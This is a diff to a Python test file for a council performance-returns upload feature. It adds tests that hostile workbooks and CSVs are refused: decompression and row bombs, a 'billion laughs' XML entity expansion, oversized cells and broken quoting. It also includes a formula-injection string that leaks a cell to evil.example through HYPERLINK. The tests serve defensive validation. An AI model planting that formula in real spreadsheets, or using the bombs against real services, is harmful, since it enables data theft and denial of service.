@@ -9,6 +9,7 @@ from io import BytesIO
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from openpyxl.utils import get_column_letter
 
 from indicators.definitions import retire_indicator
 from indicators.models import (
@@ -24,9 +25,10 @@ from indicators.models import (
 from indicators.tests.factories import IndicatorFactory, ReportingCycleFactory
 from indicators.workflow import record_value, submit_value
 from organisation.models import Role
-from organisation.tests.factories import UserFactory
+from organisation.tests.factories import DirectorateFactory, OrgUnitFactory, UserFactory
 from returns import imports, validation
 from returns.imports import (
+    CSV_COLUMNS,
     MAX_ROWS,
     ImportRejected,
     apply_import,
@@ -41,11 +43,17 @@ from returns.models import ImportKind, ImportState
 from returns.tests.import_files import (
     OLD_XLS,
     PDF,
+    RETURN_PART,
     database_state,
     filled,
     foreign_workbook,
     huge_workbook,
+    rewritten,
     values_csv,
+    with_part,
+    with_rows_far_down,
+    with_shared_string,
+    with_wide_header,
     zip_of_text,
 )
 from returns.workbooks import HEADERS, return_workbook
@@ -367,7 +375,8 @@ def test_too_many_rows_are_refused_before_any_is_checked(unchanged, officer, cyc
     run = upload_workbook(content, by=officer, cycle=cycle, service=waste)
 
     assert rejected(run) == [
-        "The file has 5,001 rows; the limit is 5,000. Split it into smaller files"
+        f"“{WASTE_FILE}” has more than 5,000 rows of figures; the limit is 5,000. Split it "
+        "into smaller files"
     ]
     assert run.processed_rows == 0
 
@@ -452,10 +461,32 @@ def test_a_workbook_for_another_service_or_cycle_is_refused(
         filled(q1_file, {2: {"Figure": 44}}), "q1.xlsx", officer=officer, cycle=cycle,
         waste=waste,
     ) == [
-        "“q1.xlsx” is the return for Waste and Recycling, Q1 2026/27, not for Waste and "
-        "Recycling, Q2 2026/27. Upload it on its own return's page, or download this "
-        "return's spreadsheet and use that"
+        "“q1.xlsx” is Waste and Recycling's return for Q1 2026/27, not for Q2 2026/27. "
+        "Upload it on the Q1 2026/27 return's page, or download this return's spreadsheet "
+        "and use that"
     ]  # fmt: skip
+
+
+def test_a_workbook_of_a_service_with_the_same_name_names_both_services_apart(
+    council, today, unchanged, officer, cycle, waste
+):
+    """The file's service and the page's service are named so they can be told apart, and
+    by their names in Golden Thread, not by what the file says of itself."""
+    people = DirectorateFactory(council=council, name="People")
+    other = OrgUnitFactory(council=council, parent=people, name="Waste and Recycling",
+                           code="people-waste")  # fmt: skip
+    IndicatorFactory(code="PPL-01", owner=other)
+    officer.scope.add(other)
+    other_file = return_workbook(cycle, other, today=today, council=council)
+    claims = filled(other_file, {}, about={"service_name": "Parks", "period_label": "Q9"})
+
+    assert messages_of_rejected(
+        claims, "theirs.xlsx", officer=officer, cycle=cycle, waste=waste
+    ) == [
+        "“theirs.xlsx” is the return for Waste and Recycling (People), Q2 2026/27, not for "
+        "Waste and Recycling (Place), Q2 2026/27. Upload it on its own return's page, or "
+        "download this return's spreadsheet and use that"
+    ]
 
 
 def test_a_closed_cycle_takes_no_figures(unchanged, template, officer, cycle, waste):
@@ -600,8 +631,8 @@ def test_every_kind_of_bad_row_in_a_csv_is_named(
             "upload that. Missing: "
             + ", ".join(imports.CSV_COLUMNS)
             + ". Not expected: "
-            + ";".join(imports.CSV_COLUMNS)
-            + ". The columns must be: "
+            + ";".join(imports.CSV_COLUMNS)[:39]
+            + "…. The columns must be: "
             + ", ".join(imports.CSV_COLUMNS),
         ),
         (
@@ -651,7 +682,7 @@ def test_a_row_with_more_cells_than_columns_is_named(performance_team, recycling
     ]
 
 
-def test_a_huge_csv_is_refused_with_its_row_count(performance_team, recycling):
+def test_a_huge_csv_is_refused_where_reading_stops(performance_team, recycling):
     before = database_state()
     row = b"WST-01,2026-27-Q2,45,,,,,,,\n"
     content = values_csv([]) + row * 12_000
@@ -659,7 +690,8 @@ def test_a_huge_csv_is_refused_with_its_row_count(performance_team, recycling):
     run = upload_csv(content, by=performance_team)
 
     assert rejected(run) == [
-        "The file has 12,000 rows; the limit is 5,000. Split it into smaller files"
+        "“figures.csv” has more than 5,000 rows of figures; the limit is 5,000. Split it into "
+        "smaller files"
     ]
     assert database_state() == before
 
@@ -773,4 +805,384 @@ def test_a_row_outside_an_indicators_reporting_range_is_refused_naming_the_range
         "Q1 2026/27. Remove the row",
         "Row 3, indicator_code: PRK-07 is not collected in Q2 2026/27: it is reported from "
         "Q3 2026/27. Remove the row",
+    ]
+
+
+# Hostile files: bounded by what they unpack to, and by rows, columns and cell length, read
+# as a stream and refused at the first limit crossed, before anything is stored.
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+
+
+def test_a_small_workbook_holding_one_huge_string_is_refused_before_it_is_opened(
+    unchanged, template, officer, cycle, waste
+):
+    """The probe's bomb was 207 KB holding one 200 MB string; just over the limit is enough
+    to show it, and keeps the test fast."""
+    bomb = with_shared_string(template, cell="L2", size=imports.MAX_UNPACKED_BYTES + 1)
+    assert len(bomb) < 200 * 1024
+
+    [message] = rejected(upload_workbook(bomb, by=officer, cycle=cycle, service=waste,
+                                         name="bomb.xlsx"))  # fmt: skip
+
+    assert message.startswith("“bomb.xlsx” unpacks to 20.1 MB; the limit is 20 MB. ")
+    assert message == imports.UNPACKS_TOO_LARGE.format(
+        name="bomb.xlsx", size="20.1 MB", limit="20 MB"
+    )
+
+
+def test_a_part_packed_far_tighter_than_any_spreadsheet_is_refused(
+    unchanged, template, officer, cycle, waste
+):
+    packed = with_part(template, "xl/media/image1.png", 2 * imports.MEGABYTE)
+
+    [message] = rejected(upload_workbook(packed, by=officer, cycle=cycle, service=waste,
+                                         name="packed.xlsx"))  # fmt: skip
+
+    assert message.startswith("“packed.xlsx” has a part (xl/media/image1.png) that unpacks to ")
+    assert message.endswith(
+        " times its packed size; the limit is 100 times. Excel never packs a spreadsheet "
+        "this tightly: download the return's spreadsheet again and enter the figures in it"
+    )
+
+
+def test_a_sheet_declaring_a_million_rows_is_refused_where_reading_stops(
+    unchanged, template, officer, cycle, waste
+):
+    """The probe's row bomb held the worker for 165 s; reading stops at the limit."""
+    bomb = with_rows_far_down(template, last_row=1_048_576)
+    assert len(bomb) < 20 * 1024
+
+    run = upload_workbook(bomb, by=officer, cycle=cycle, service=waste, name="rows.xlsx")
+
+    assert rejected(run) == [
+        "“rows.xlsx” goes on below row 10,000, where reading stops. Delete the empty rows "
+        "below the figures, or split the file into smaller files"
+    ]
+    assert run.processed_rows == 0
+
+
+def test_a_sheet_declaring_every_column_is_read_only_as_far_as_the_returns_columns(
+    template, officer, cycle, waste, missed_bins
+):
+    wide = with_rows_far_down(template, last_row=3_000, last_column="XFD")
+
+    run = upload_workbook(wide, by=officer, cycle=cycle, service=waste)
+
+    assert run.state == ImportState.DONE, run.problems
+    assert Value.objects.get(indicator=missed_bins, period=cycle.period).figure == 45
+
+
+def test_a_row_of_a_thousand_empty_cells_is_refused_before_it_is_read(
+    unchanged, template, officer, cycle, waste
+):
+    """Within the size limits, a row of many small cells would cost openpyxl hundreds of
+    megabytes (a 3 MB file held 780,000 cells in one row: 1.4 GB and 25 s)."""
+    cells = "".join(f'<c r="{get_column_letter(n)}5"/>' for n in range(1, 1_002)).encode()
+    wide = rewritten(
+        template,
+        {RETURN_PART: lambda xml: xml.replace(b"</sheetData>", b'<row r="5">' + cells
+                                              + b"</row></sheetData>")},
+    )  # fmt: skip
+
+    assert rejected(upload_workbook(wide, by=officer, cycle=cycle, service=waste)) == [
+        f"“{WASTE_FILE}” has a row (row 5 of a sheet) with more than 1,000 cells. Clear the "
+        "cells to the right of the return's columns"
+    ]
+
+
+def test_a_workbook_of_too_many_cells_or_formats_is_refused_before_it_is_read(
+    unchanged, template, officer, cycle, waste, monkeypatch
+):
+    formats = rewritten(
+        template,
+        {"xl/styles.xml": lambda xml: xml.replace(
+            b"</cellXfs>", b'<xf numFmtId="0"/>' * 20_001 + b"</cellXfs>")},
+    )  # fmt: skip
+    monkeypatch.setattr(imports, "MAX_ELEMENTS", 100)
+
+    assert rejected(upload_workbook(template, by=officer, cycle=cycle, service=waste)) == [
+        f"“{WASTE_FILE}” holds more than 100 cells, texts and styles; a return holds far "
+        "fewer. Remove what is not part of the return, or split it into smaller files"
+    ]
+    monkeypatch.undo()
+    assert rejected(upload_workbook(formats, by=officer, cycle=cycle, service=waste)) == [
+        f"“{WASTE_FILE}” has more than 20,000 cell formats; a return uses a few dozen. Copy "
+        "the figures into a fresh download of the return's spreadsheet and upload that"
+    ]
+
+
+def test_a_workbook_defining_entities_is_refused_unexpanded(
+    unchanged, template, officer, cycle, waste
+):
+    """The billion laughs: ten entities each ten times the one before."""
+    entities = b'<!ENTITY lol0 "lol">' + b"".join(
+        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">'.encode() for n in range(1, 10)
+    )
+    laughs = rewritten(
+        template,
+        {RETURN_PART: lambda xml: xml.replace(
+            b"<worksheet", b"<!DOCTYPE worksheet [" + entities + b"]><worksheet", 1
+        ).replace(b"</sheetData>", b'<row r="9"><c r="L9" t="inlineStr"><is><t>&lol9;</t>'
+                  b"</is></c></row></sheetData>")},
+    )  # fmt: skip
+
+    assert rejected(upload_workbook(laughs, by=officer, cycle=cycle, service=waste)) == [
+        f"“{WASTE_FILE}” is not an Excel workbook. Upload the spreadsheet downloaded from this "
+        "return, saved as an Excel Workbook (.xlsx)"
+    ]
+
+
+def test_a_header_with_too_many_columns_is_refused(unchanged, template, officer, cycle, waste):
+    wide = with_wide_header(template, columns=imports.MAX_COLUMNS + 1)
+
+    assert rejected(upload_workbook(wide, by=officer, cycle=cycle, service=waste)) == [
+        f"“{WASTE_FILE}” has more than 50 columns in its header row. Delete the columns "
+        "that are not part of the return"
+    ]
+
+
+def test_a_cell_longer_than_a_spreadsheet_cell_can_hold_stops_the_reading(
+    unchanged, template, officer, cycle, waste
+):
+    content = with_shared_string(filled(template, {2: {"Figure": 45}}), cell="L2", size=40_000)
+
+    assert rejected(upload_workbook(content, by=officer, cycle=cycle, service=waste)) == [
+        "Row 2, Commentary: the cell holds more than 32,767 characters, more than a "
+        "spreadsheet cell can. Shorten it"
+    ]
+
+
+def test_commentary_over_the_length_limit_is_a_problem_in_its_row(
+    unchanged, template, officer, cycle, waste
+):
+    content = filled(template, {2: {"Figure": 45, "Actions": "y" * 10_001}, 3: {"Figure": 12}})
+
+    assert rejected(upload_workbook(content, by=officer, cycle=cycle, service=waste)) == [
+        "Row 2, Actions: the text is 10,001 characters long; the limit is 10,000. Shorten it"
+    ]
+
+
+def test_text_that_looks_like_a_formula_survives_the_round_trip_exactly(
+    council, today, officer, cycle, waste, recycling, missed_bins
+):
+    """Commentary is written to the workbook as text, never a live formula, and the same
+    workbook uploaded back unchanged keeps it as it was."""
+    texts = {
+        "commentary": HOSTILE,
+        "reasons": "'=quoted by the officer",
+        "actions": "-5 missed bins a week",
+        "not_available_reason": "@risk",
+    }
+    value = record_value(
+        indicator=missed_bins,
+        period=cycle.period,
+        entries={"figure": Decimal("9"), **texts},
+        by=officer,
+    )
+    template = return_workbook(cycle, waste, today=today, council=council)
+    before = database_state()
+
+    unchanged = upload_workbook(template, by=officer, cycle=cycle, service=waste)
+    edited = upload_workbook(
+        filled(template, {3: {"Figure": 11}}), by=officer, cycle=cycle, service=waste
+    )
+
+    assert (unchanged.state, unchanged.imported_rows) == (ImportState.DONE, 0)
+    assert database_state()[0] != before[0]  # the edit was saved…
+    value.refresh_from_db()
+    assert (edited.state, value.figure) == (ImportState.DONE, 11)
+    assert {name: getattr(value, name) for name in texts} == texts  # …and the text kept
+
+
+# A strict CSV: a row that cannot be read exactly is an error naming it
+
+
+@pytest.fixture
+def valid_rows(cycle, recycling, missed_bins, green_flags, park_visits):
+    return [
+        b"PRK-01,2026-27-Q2,75,,,final,Green flags held,,,\n",
+        b"WST-01,2026-27-Q2,46,,,final,Steady,,,\n",
+    ]
+
+
+def test_an_unclosed_quote_is_an_error_naming_its_row_not_rows_lost(performance_team, valid_rows):
+    """The probe's file: row 2 opens a quote it never closes. It was "Imported 1 figure",
+    the next two rows read into its commentary and lost without a word."""
+    before = database_state()
+    broken = b'WST-02,2026-27-Q2,37,,,final,"Rise due to ""new referrals,,,\n'
+
+    run = upload_csv(values_csv([]) + broken + b"".join(valid_rows), by=performance_team)
+
+    assert rejected(run) == [
+        "Row 2: a double quote starts text that is never closed, so every row after it "
+        "would be read into one cell. End the text with a double quote; a double quote "
+        "inside the text must be written twice"
+    ]
+    assert database_state() == before
+
+
+def test_rows_swallowed_into_quoted_text_are_an_error_naming_the_row(performance_team, valid_rows):
+    """A quote closed rows later leaves the right number of cells, and the rows between
+    inside one commentary."""
+    before = database_state()
+    content = (
+        values_csv([])
+        + b'WST-02,2026-27-Q2,37,,,final,"Rise due to ""new referrals,,,\n'
+        + valid_rows[0]
+        + b'WST-01,2026-27-Q2,46,,,final,Steady",,,\n'
+    )
+
+    run = upload_csv(content, by=performance_team)
+
+    assert rejected(run) == [
+        "Row 2, commentary: the text runs over lines that look like rows of the file "
+        "(“PRK-01,2026-27-Q2,75,,,final,Green flag…”). A double quote in it is probably "
+        "not closed, so those rows would be lost. End quoted text with a double quote; a "
+        "double quote inside the text must be written twice"
+    ]
+    assert database_state() == before
+
+
+def test_commentary_over_several_lines_is_kept(performance_team, cycle, missed_bins):
+    content = values_csv(
+        [{"indicator_code": "WST-02", "period": "2026-27-Q2", "figure": "12",
+          "commentary": "Two crews off sick.\nBack to normal from October."}]
+    )  # fmt: skip
+
+    run = upload_csv(content, by=performance_team)
+
+    assert run.state == ImportState.DONE, run.problems
+    value = Value.objects.get(indicator=missed_bins, period=cycle.period)
+    assert value.commentary == "Two crews off sick.\nBack to normal from October."
+
+
+@pytest.mark.parametrize(
+    ("line", "message"),
+    [
+        (
+            b'WST-01,2026-27-Q2,46,,,final,"Steady" so far,,,\n',
+            "Row 2: a double quote ends quoted text in the middle of a cell. Put the whole "
+            "cell in double quotes, and write each double quote inside it twice",
+        ),
+        (
+            b'WST-01,2026-27-Q2,"46\n47",,,final,,,,\n',
+            "Row 2, figure: the cell runs over more than one line. A double quote earlier "
+            "in the row is probably not closed: end quoted text with a double quote",
+        ),
+        (
+            b"WST-01,2026-27-Q2,46\n",
+            "Row 2 has 3 cells but the header has 10 columns. Add the missing cells: an "
+            "empty cell still needs its comma",
+        ),
+        (
+            b"WST-01,2026-27-Q2,46,,,final," + b"x" * 200_000 + b",,,\n",
+            "Row 2: a cell holds more than 32,767 characters, more than a spreadsheet "
+            "cell can. Shorten it",
+        ),
+        (
+            b"WST-01,2026-27-Q2,46,,,final," + b"x" * 40_000 + b",,,\n",
+            "Row 2, commentary: the cell holds more than 32,767 characters, more than a "
+            "spreadsheet cell can. Shorten it",
+        ),
+        (
+            b"WST-01,2026-27-Q2,46,,,final," + b"x" * 10_001 + b",,,\n",
+            "Row 2, commentary: the text is 10,001 characters long; the limit is 10,000. "
+            "Shorten it",
+        ),
+    ],
+    ids=["stray-quote", "line-break-in-figure", "short-row", "huge-cell", "long-cell",
+         "long-commentary"],
+)  # fmt: skip
+def test_a_malformed_row_is_an_error_naming_it_and_nothing_is_imported(
+    performance_team, valid_rows, line, message
+):
+    before = database_state()
+
+    run = upload_csv(values_csv([]) + valid_rows[0] + line, by=performance_team)
+
+    assert rejected(run) == [message.replace("Row 2", "Row 3")]
+    assert database_state() == before
+
+
+def test_a_csv_header_with_too_many_columns_is_refused(performance_team, recycling):
+    header = ",".join([*CSV_COLUMNS, *(f"note {n}" for n in range(41))]).encode()
+
+    run = upload_csv(header + b"\nWST-01,2026-27-Q2,45\n", by=performance_team)
+
+    assert rejected(run) == [
+        "“figures.csv” has more than 50 columns in its header row. Delete the columns that "
+        "are not part of the return"
+    ]
+
+
+def test_a_csv_going_on_far_below_its_figures_is_refused_where_reading_stops(
+    performance_team, recycling
+):
+    content = values_csv([]) + b",,,,,,,,,\n" * 20_000 + b"WST-01,2026-27-Q2,45,,,,,,,\n"
+
+    assert rejected(upload_csv(content, by=performance_team)) == [
+        "“figures.csv” goes on below row 10,000, where reading stops. Delete the empty rows "
+        "below the figures, or split the file into smaller files"
+    ]
+
+
+# Numbers: one strict reading, the same as the return page's
+
+
+def test_numbers_python_or_other_scripts_would_read_are_refused_in_a_csv(
+    performance_team, cycle, recycling, missed_bins, green_flags
+):
+    before = database_state()
+    rows = [
+        {"indicator_code": "WST-02", "period": "2026-27-Q2", "figure": "1_000"},
+        {"indicator_code": "PRK-01", "period": "2026-27-Q2", "figure": "٤٥"},
+        {"indicator_code": "WST-01", "period": "2026-27-Q2", "figure": "1e-400"},
+    ]
+
+    run = upload_csv(values_csv(rows), by=performance_team)
+
+    assert rejected(run) == [
+        "Row 2, figure: “1_000” is not a number. Enter a number like 92.5",
+        "Row 3, figure: “٤٥” is not a number. Enter a number like 92.5",
+        "Row 4, figure: “1e-400” is not a number. Enter a number like 92.5",
+    ]
+    assert database_state() == before
+
+
+def test_numbers_that_do_not_fit_a_stored_figure_are_refused_saying_why(
+    performance_team, cycle, recycling, missed_bins, green_flags
+):
+    rows = [
+        {"indicator_code": "WST-02", "period": "2026-27-Q2", "figure": "12,5"},
+        {"indicator_code": "PRK-01", "period": "2026-27-Q2", "figure": "45.1234567"},
+        {"indicator_code": "WST-01", "period": "2026-27-Q2", "figure": "45",
+         "numerator": "100,000,000,000,000", "denominator": "1"},
+    ]  # fmt: skip
+
+    assert rejected(upload_csv(values_csv(rows), by=performance_team)) == [
+        "Row 2, figure: “12,5” is not a number: use commas only between thousands and a "
+        "point before any decimals, like 1,250.5",
+        "Row 3, figure: “45.1234567” has more than 6 decimal places. Round it to 6 decimal "
+        "places or fewer",
+        "Row 4, numerator: 100,000,000,000,000 is too large. Enter a number between "
+        "-100,000,000,000,000 and 100,000,000,000,000 (14 digits before the point)",
+    ]
+
+
+def test_commas_between_thousands_are_read(performance_team, cycle, park_visits):
+    september = Period.objects.get(kind="month", code="2026-09")
+    rows = [{"indicator_code": "PRK-02", "period": "2026-09", "figure": "12,500"}]
+
+    run = upload_csv(values_csv(rows), by=performance_team)
+
+    assert run.state == ImportState.DONE, run.problems
+    assert Value.objects.get(indicator=park_visits, period=september).figure == 12_500
+
+
+def test_true_or_false_in_a_number_cell_is_not_a_number(unchanged, template, officer, cycle, waste):
+    content = filled(template, {3: {"Figure": True}})
+
+    assert rejected(upload_workbook(content, by=officer, cycle=cycle, service=waste)) == [
+        "Row 3, Figure: “TRUE” is not a number. Enter a number like 92.5"
     ]
